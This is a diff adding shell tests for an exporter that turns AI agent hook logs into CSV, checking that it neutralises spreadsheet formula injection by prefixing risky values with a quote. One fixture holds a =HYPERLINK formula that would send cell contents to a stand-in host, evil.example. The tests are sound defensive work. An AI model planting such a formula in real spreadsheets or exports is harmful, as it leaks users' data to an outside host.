@@ -85,6 +85,31 @@ check "csv: the quoted error keeps its line breaks and doubled quotes" \
 check "csv: params is its JSON text, quoted" grep -qF '"{""command"":""ls '"'"'a,b'"'"'""}"' \
   "$TMP/awkward.csv"
 
+# Formula injection (OWASP): text that a spreadsheet may run gets a ' in front, and quotes; text
+# that starts with ' gets one more, so one leading ' comes off every text field to read it back.
+L='"v":1,"event":"PostToolUseFailure","agent":"claude-code","outcome":"failure"'
+cat > "$TMP/formula.jsonl" << EOF
+{$L,"timestamp":"2026-11-21T14:00:00.000Z","session_id":"s","tool_name":"Bash","error":"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")","exit_code":-1,"latency_ms":-0}
+{$L,"timestamp":"2026-11-21T14:00:01.000Z","session_id":"+s","tool_name":"@SUM(A1:A9)","error":"-2+3"}
+{$L,"timestamp":"2026-11-21T14:00:02.000Z","session_id":"s","tool_name":"\tcmd","error":"\r=1+1","cwd":"'=not a formula"}
+{$L,"timestamp":"2026-11-21T14:00:03.000Z","session_id":"s","tool_name":"Read","error":"a =1 inside is fine","cwd":"/p"}
+EOF
+run export --log "$TMP/formula.jsonl" --format csv
+cp "$TMP/out" "$TMP/formula.csv"
+checker csv "$TMP/formula.csv" "$TMP/formula.jsonl" |
+  sed 's/^\(\(not \)\{0,1\}ok - \)/\1formula: /' > "$TMP/tap" || true
+tap_merge < "$TMP/tap"
+Q="'"
+check "csv: =HYPERLINK(...) is written '=HYPERLINK(...), quoted" \
+  grep -qF ",\"$Q=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",-1," "$TMP/formula.csv"
+check "csv: +, @, -, tab and CR starts get a ' too" \
+  sh -c 'grep -qF ",\"$2+s\"," "$1" && grep -qF ",\"$2@SUM(A1:A9)\"," "$1" &&
+    grep -qF ",\"$2-2+3\"," "$1" && grep -qF "$(printf ",\"%s\tcmd\"," "$2")" "$1" &&
+    grep -qF "$(printf ",\"%s\r=1+1\"," "$2")" "$1"' sh "$TMP/formula.csv" "$Q"
+check "csv: a value starting with ' gets one more; numbers and other text are left alone" \
+  sh -c 'grep -qF ",\"$2$2=not a formula\"," "$1" && grep -qF ",a =1 inside is fine," "$1" &&
+    grep -qF ",-1,-0," "$1"' sh "$TMP/formula.csv" "$Q"
+
 # ---- the analyzer's fixtures and the real session ----
 for log in "$DATA/stats/fixture.jsonl" "$DATA/stats/old-format.jsonl" \
   "$DATA/expected/claude-code-2.1.197.jsonl"; do
